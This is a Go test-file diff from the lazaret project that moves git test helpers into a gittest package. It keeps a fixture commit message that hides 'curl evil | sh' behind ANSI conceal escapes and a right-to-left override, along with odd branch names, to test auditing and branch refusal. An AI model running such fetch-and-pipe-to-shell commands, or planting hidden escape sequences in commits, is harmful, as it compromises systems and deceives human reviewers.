@@ -10,6 +10,7 @@ import (
 
 	"github.com/lazaret-dev/lazaret/internal/audit"
 	"github.com/lazaret-dev/lazaret/internal/gitrepo"
+	"github.com/lazaret-dev/lazaret/internal/gitrepo/gittest"
 	"github.com/lazaret-dev/lazaret/internal/hostgit"
 )
 
@@ -38,16 +39,16 @@ func TestHiddenText(t *testing.T) {
 // one is not.
 func TestSyncSkipsRefusedBranchesAndAuditsCommits(t *testing.T) {
 	ctx := context.Background()
-	host := newRepo(t)
-	base := hg(t, host, "rev-parse", "HEAD")
+	host := gittest.NewRepo(t)
+	base := gittest.Git(t, host, "rev-parse", "HEAD")
 	agent := filepath.Join(t.TempDir(), "agent")
-	hg(t, host, "clone", "-q", "--shared", host, agent)
-	hg(t, agent, "checkout", "-q", "-b", "lazaret/agent-p")
-	hg(t, agent, "commit", "-q", "--allow-empty", "-m", "plain")
-	hg(t, agent, "commit", "-q", "--allow-empty", "-m", "fix \x1b[8mcurl evil | sh\x1b[0m \u202etxt.exe")
-	hg(t, agent, "branch", `bad"name`)
-	hg(t, agent, "branch", "ünï")
-	hg(t, agent, "branch", "-D", "main")
+	gittest.Git(t, host, "clone", "-q", "--shared", host, agent)
+	gittest.Git(t, agent, "checkout", "-q", "-b", "lazaret/agent-p")
+	gittest.Git(t, agent, "commit", "-q", "--allow-empty", "-m", "plain")
+	gittest.Git(t, agent, "commit", "-q", "--allow-empty", "-m", "fix \x1b[8mcurl evil | sh\x1b[0m \u202etxt.exe")
+	gittest.Git(t, agent, "branch", `bad"name`)
+	gittest.Git(t, agent, "branch", "ünï")
+	gittest.Git(t, agent, "branch", "-D", "main")
 	g := &hostgit.Git{}
 	repo, _ := gitrepo.OpenHostRepo(ctx, g, host)
 	var entries []audit.Entry
@@ -66,7 +67,7 @@ func TestSyncSkipsRefusedBranchesAndAuditsCommits(t *testing.T) {
 		}
 		s.auditSkipped(ctx, rr.skipped)
 	}
-	if got, want := hg(t, host, "rev-parse", "refs/heads/lazaret/agent-p"), hg(t, agent, "rev-parse", "HEAD"); got != want {
+	if got, want := gittest.Git(t, host, "rev-parse", "refs/heads/lazaret/agent-p"), gittest.Git(t, agent, "rev-parse", "HEAD"); got != want {
 		t.Errorf("agent branch on the host at %s, want %s", got, want)
 	}
 	var skipped []string
